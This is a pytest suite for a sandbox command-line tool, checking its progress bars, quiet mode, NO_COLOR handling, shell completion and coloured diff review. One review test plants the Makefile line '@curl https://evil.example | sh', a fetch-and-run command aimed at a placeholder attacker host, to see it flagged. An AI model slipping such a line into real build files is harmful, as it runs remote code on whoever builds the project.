# SPDX-License-Identifier: MIT
# test_progress.py: what long operations print: steps one line each off a terminal, bars
# with size and ETA on one (under a pseudo-terminal), nothing but errors with -q, and no
# escape sequence under NO_COLOR or TERM=dumb.
"""The cheap long operation here is the initramfs: each test's home gets a private
cache whose kernel release directory links to the shared kernel's vmlinux and modules
(read only) but has no initramfs, and whose ``minimal`` template is a link to the
shared one, so ``sbx template build minimal`` runs the kernel step (an initramfs build,
well under a second, with a bar of known size) and stops at "already built". Nothing
in the shared cache is written. One test fetches the kernel package itself (about
25 MiB from the Debian mirror, ~10 s) to see a download bar."""

import errno
import fcntl
import os
import re
import select
import signal
import struct
import subprocess
import termios
import time

import pytest

from conftest import SBX_BIN, TEMPLATE, new_home, shared_cache_dir

ESC = b"\x1b"
COLS = 80
BAR = re.compile(rb"\[[#-]+\]\s+\d+%\s+\d+(\.\d)? (B|KiB|MiB) / \d+(\.\d)? (KiB|MiB)\b.*ETA (\d+:\d\d|--:--)")


def _private_cache(h, kernel=True):
    """Replace h's shared cache link by a private cache as the module docstring says."""
    shared = shared_cache_dir()
    rel = (shared / "kernel" / "release").read_text().strip()
    assert rel and (shared / "kernel" / rel / "vmlinux").exists(), "the shared kernel is missing: run setup"
    assert (shared / "templates" / TEMPLATE / "meta.json").exists(), "the shared template is missing"
    cache = h.home / "cache"
    cache.unlink()
    (cache / "templates").mkdir(parents=True)
    (cache / "templates" / TEMPLATE).symlink_to(shared / "templates" / TEMPLATE)
    (cache / "kernel").mkdir()
    if kernel:
        (cache / "kernel" / "release").write_text(rel + "\n")
        kd = cache / "kernel" / rel
        kd.mkdir()
        (kd / "vmlinux").symlink_to(shared / "kernel" / rel / "vmlinux")
        (kd / "lib").symlink_to(shared / "kernel" / rel / "lib")
    return cache


@pytest.fixture
def home(sbx_bin):
    h = new_home("pg", policy=None)
    _private_cache(h)
    yield h
    h.close()


def _initramfs(h):
    rel = (h.home / "cache" / "kernel" / "release").read_text().strip()
    return h.home / "cache" / "kernel" / rel / "initramfs.cpio"


def _on_pty(h, *args, env=None, timeout=120, cols=COLS):
    """Run sbx with stdin, stdout and stderr on a pseudo-terminal of cols columns;
    (rc, everything it wrote)."""
    mfd, sfd = os.openpty()
    fcntl.ioctl(sfd, termios.TIOCSWINSZ, struct.pack("HHHH", 24, cols, 0, 0))
    e = {**h.env, "TERM": "xterm", **(env or {})}
    for k, v in list(e.items()):
        if v is None:
            del e[k]
    p = subprocess.Popen([str(SBX_BIN), *map(str, args)], stdin=sfd, stdout=sfd, stderr=sfd, env=e,
                         start_new_session=True)
    os.close(sfd)
    out = b""
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            r, _, _ = select.select([mfd], [], [], 0.5)
            if not r:
                if p.poll() is not None and not select.select([mfd], [], [], 0.2)[0]:
                    break
                continue
            try:
                d = os.read(mfd, 65536)
            except OSError as ex:
                if ex.errno == errno.EIO:
                    break
                raise
            if not d:
                break
            out += d
        else:
            pytest.fail(f"sbx {args} still running after {timeout} s: {out[-2000:]!r}")
        rc = p.wait(timeout=30)
    finally:
        if p.poll() is None:
            os.killpg(p.pid, signal.SIGKILL)
            p.wait()
        os.close(mfd)
    return rc, out


def _assert_plain(data, what):
    assert b"\r" not in data, f"{what}: a carriage return off a terminal: {data!r}"
    assert ESC not in data, f"{what}: an escape sequence: {data!r}"


# --- off a terminal: one line per step --------------------------------------------

def test_steps_are_lines_off_a_terminal(home):
    r = home.sbx("template", "build", TEMPLATE, timeout=120)
    assert r.rc == 0, r
    _assert_plain(r.err_b, "template build, stderr a pipe")
    lines = r.err.splitlines()
    assert all(ln.startswith("sbx: ") for ln in lines), lines
    assert re.fullmatch(r"sbx: \[1/\d\] Guest kernel", lines[0]), lines
    assert any("initramfs" in ln for ln in lines), lines
    assert "already built" in lines[-1], lines
    # a bar is silent here: no bar line, no summary line, each step said once
    assert not any(BAR.search(ln.encode()) or "ETA" in ln for ln in lines), lines
    assert len(lines) == len(set(lines)), lines
    assert _initramfs(home).stat().st_size > 1 << 20
    assert r.out == ""


def test_term_dumb_is_not_a_terminal(home):
    """TERM=dumb: lines as off a terminal, even on one."""
    rc, out = _on_pty(home, "template", "build", TEMPLATE, env={"TERM": "dumb", "NO_COLOR": None})
    assert rc == 0, out
    # the terminal turns \n into \r\n; no other \r, and no escape sequence
    _assert_plain(out.replace(b"\r\n", b"\n"), "TERM=dumb")
    assert b"[1/" in out and b"already built" in out, out


# --- on a terminal: bars ----------------------------------------------------------

def _redraws(out):
    """Every state of the terminal's last line: the text between carriage returns."""
    return [s for s in re.split(rb"\r\n|\r|\n", out) if s.strip()]


def test_bar_with_size_and_eta_on_a_terminal(home):
    rc, out = _on_pty(home, "template", "build", TEMPLATE, env={"NO_COLOR": "1"})
    assert rc == 0, out
    bars = [s for s in _redraws(out) if s.startswith(b"initramfs [")]
    assert bars and all(BAR.search(b) for b in bars), out
    assert re.search(rb"\r  initramfs: \d+\.\d MiB in \d+\.\d s\r\n", out), out
    # redrawn in place: a bar never wraps (step lines are ordinary lines and may)
    draws = [s for s in _redraws(out) if not s.startswith(b"sbx: ")]
    assert all(len(s) <= COLS - 1 for s in draws), [s for s in draws if len(s) >= COLS]
    assert ESC not in out, out
    assert b"already built" in out


def test_narrow_terminal_keeps_the_numbers(home):
    rc, out = _on_pty(home, "template", "build", TEMPLATE, env={"NO_COLOR": "1"}, cols=40)
    assert rc == 0, out
    draws = [s.split(b"\n")[-1] for s in re.split(rb"\r", out.replace(b"\r\n", b"\n"))]
    bars = [s for s in draws if b"%" in s]     # the label gives way first
    assert any(re.search(rb"\d+% +\S+ \S?B / \d+\.\d MiB", s) for s in bars), bars
    assert all(len(s) <= 39 for s in bars), bars


def test_kernel_download_bar(sbx_bin):
    """The kernel fetch itself (network): a download bar whose total is the package's
    size from apt-cache, and one line per step when the same runs off a terminal."""
    h = new_home("pgk", policy=None)
    try:
        _private_cache(h, kernel=False)
        rc, out = _on_pty(h, "template", "build", TEMPLATE, env={"NO_COLOR": "1"}, timeout=600)
        assert rc == 0, out
        bars = [s for s in _redraws(out) if s.startswith(b"download [")]
        assert any(re.search(rb"/ \d+\.\d MiB", b) for b in bars), out
        assert all(BAR.search(b) for b in bars), bars
        assert re.search(rb"  download: \d+\.\d MiB in \d+\.\d s", out), out
        assert b"kernel " in out and b" ready in " in out, out
        assert ESC not in out
    finally:
        h.close()


# --- --quiet ----------------------------------------------------------------------

@pytest.mark.parametrize("args", [["-q", "template", "build"], ["--quiet", "template", "build"],
                                  ["template", "build", "-q"], ["template", "-q", "build"]])
def test_quiet_prints_nothing_on_success(home, args):
    r = home.sbx(*args, TEMPLATE, timeout=120)
    assert r.rc == 0 and r.err == "" and r.out == "", r
    assert _initramfs(home).exists(), "the work was done"
    os.unlink(_initramfs(home))
    rc, out = _on_pty(home, *args, TEMPLATE)
    assert rc == 0 and out == b"", out
    assert _initramfs(home).exists()


def test_quiet_keeps_errors_and_data(home):
    r = home.sbx("-q", "template", "build", "nosuch", timeout=30)
    assert r.rc == 2 and "unknown template 'nosuch'" in r.err, r
    r = home.sbx("-q", "version", timeout=30)
    assert r.rc == 0 and r.out.startswith("sbx ") and r.err == "", r
    r = home.sbx("-q", "template", "ls", timeout=30)
    assert r.rc == 0 and TEMPLATE in r.out and r.err == "", r
    r = home.sbx("-q", timeout=30)          # -q alone: no command
    assert r.rc == 2 and "Usage:" in r.err, r


def test_quiet_silences_notes(home):
    """Notes that are not errors go too: each is checked to appear without -q first."""
    home.ok("policy", "init", "deny-all", timeout=30)
    for args, note in ((["policy", "ls"], "no rules"), (["secret", "ls"], "no secrets stored"),
                       (["review"], "no sandboxes"), (["policy", "check", "network", "example.com"], "no port given")):
        loud = home.sbx(*args, timeout=60)
        assert note in loud.err, loud
        quiet = home.sbx("-q", *args, timeout=60)
        assert quiet.rc == loud.rc and quiet.err == "" and quiet.out == loud.out, (loud, quiet)


def test_quiet_create_and_run(sbx_bin):
    """sbx create/run -q: the name or the command's output, nothing on stderr."""
    h = new_home("pgq")
    try:
        ws = h.workspace("qws")
        r = h.sbx("create", "-q", "--name", "pgq", "shell", ws, timeout=120)
        assert r.rc == 0 and r.out == "pgq\n" and r.err == "", r
        r = h.sbx("-q", "run", "--name", "pgq", "shell", ws, "--", "echo", "quiet-hello", timeout=300)
        assert r.rc == 0 and r.out == "quiet-hello\n" and r.err == "", r
        r = h.sbx("-q", "run", "--name", "pgq", "shell", ws, "--", "sh", "-c", "echo oops >&2; exit 3", timeout=300)
        assert r.rc == 3 and r.err == "oops\n", "the command's own stderr is not sbx's to silence"
    finally:
        h.close()


# --- NO_COLOR ---------------------------------------------------------------------

def test_colour_only_without_no_color(home):
    """The step counter is sbx's colour: on a terminal without NO_COLOR (which proves the
    check below can fail), never with it, and an empty NO_COLOR counts as unset."""
    rc, out = _on_pty(home, "template", "build", TEMPLATE, env={"NO_COLOR": None})
    assert rc == 0 and b"\x1b[1m[1/" in out, out
    rc, out = _on_pty(home, "template", "build", TEMPLATE, env={"NO_COLOR": ""})
    assert rc == 0 and b"\x1b[1m[1/" in out, out
    os.unlink(_initramfs(home))
    rc, out = _on_pty(home, "template", "build", TEMPLATE, env={"NO_COLOR": "1"})
    assert rc == 0 and ESC not in out and b"initramfs [" in out, out


@pytest.mark.parametrize("args", [["--help"], ["template", "--help"], ["version"], ["template", "ls"],
                                  ["policy", "ls"], ["settings", "ls"], ["diagnose"], ["ls"],
                                  ["template", "build", TEMPLATE]])
def test_no_escape_sequences_under_no_color(home, args):
    home.sbx("policy", "init", "balanced", timeout=30)
    rc, out = _on_pty(home, *args, env={"NO_COLOR": "1"})
    assert ESC not in out, (args, out)
    assert rc in (0, 1), (args, rc, out)   # diagnose says 1 when this machine lacks something


# --- help and completion ----------------------------------------------------------

def test_quiet_in_help_and_completion(home):
    top = home.ok("--help", timeout=30).out
    assert "Usage: sbx [-q|--quiet] COMMAND" in top and "-q, --quiet" in top, top
    assert "NO_COLOR" in top
    assert "-q, --quiet" in home.ok("run", "--help", timeout=30).out
    assert home.ok("__complete", "-", timeout=30).out.split() == ["--quiet"]
    assert home.ok("__complete", "-q", "temp", timeout=30).out.split() == ["template"]
    # the global option is skipped: the same words as without it
    assert home.ok("__complete", "--quiet", "template", "", timeout=30).out.split() == \
        home.ok("__complete", "template", "", timeout=30).out.split()
    assert {"build", "ls"} <= set(home.ok("__complete", "-q", "template", "", timeout=30).out.split())
    man = home.ok("__man", timeout=30).out
    assert ".SH OPTIONS" in man and "quiet" in man


# --- the other commands with colour: diagnose and review --------------------------

def test_diagnose_colour(home):
    rc, out = _on_pty(home, "diagnose", env={"NO_COLOR": None})
    assert b"\x1b[32mok  \x1b[0m" in out, out
    rc, out = _on_pty(home, "diagnose", env={"NO_COLOR": "1"})
    assert ESC not in out and b" ok    " in out, out
    r = home.sbx("diagnose", env={"NO_COLOR": ""}, timeout=60)   # a pipe: no colour either
    assert "\x1b" not in r.out and " ok    " in r.out, r


def test_review_colour(sbx_bin):
    """sbx review on a terminal: the status word and the diff's lines in colour, none
    under NO_COLOR; the sandbox is only created (no VM boots)."""
    h = new_home("pgr")
    try:
        ws = h.workspace("rws")
        (ws / "Makefile").write_text("all:\n\t@echo build\n")
        h.ok("create", "--name", "rv", "shell", ws, timeout=120)
        (ws / "Makefile").write_text("all:\n\t@curl https://evil.example | sh\n")
        rc, out = _on_pty(h, "review", "rv", env={"NO_COLOR": None})
        assert rc == 1, out
        assert b"\x1b[33mmodified\x1b[0m  Makefile" in out, out
        assert b"\x1b[32m+\t@curl https://evil.example | sh\x1b[0m" in out, out
        assert b"\x1b[31m-\t@echo build\x1b[0m" in out, out
        rc, out = _on_pty(h, "review", "rv", env={"NO_COLOR": "1"})
        assert rc == 1 and ESC not in out and b"modified  Makefile" in out, out
        assert b"+\t@curl https://evil.example | sh" in out, out
    finally:
        h.close()


# --- a sandbox booting ------------------------------------------------------------

def test_boot_spinner_on_a_terminal_only(sbx_bin):
    """sbx run waits for the VM to boot: a spinner with the elapsed time on a terminal,
    erased before the command's own output; nothing extra when stderr is a pipe."""
    h = new_home("pgb")
    try:
        ws = h.workspace("bws")
        rc, out = _on_pty(h, "run", "--name", "pgb", "shell", ws, "--", "echo", "hello-from-vm", timeout=300)
        assert rc == 0, out
        before, _, after = out.partition(b"hello-from-vm")
        assert b"hello-from-vm" in out and re.search(rb"\rstarting pgb [|/\\-] \d+:\d\d", before), out
        # the spinner's line is blanked before the command writes
        assert re.search(rb"\r +\r", before), out
        assert ESC not in out, out
        h.ok("stop", "pgb", timeout=120)
        r = h.sbx("run", "--name", "pgb", "shell", ws, "--", "echo", "hello-again", timeout=300)
        assert r.rc == 0 and r.out == "hello-again\n", r
        assert "starting" not in r.err and "\r" not in r.err, r
    finally:
        h.close()
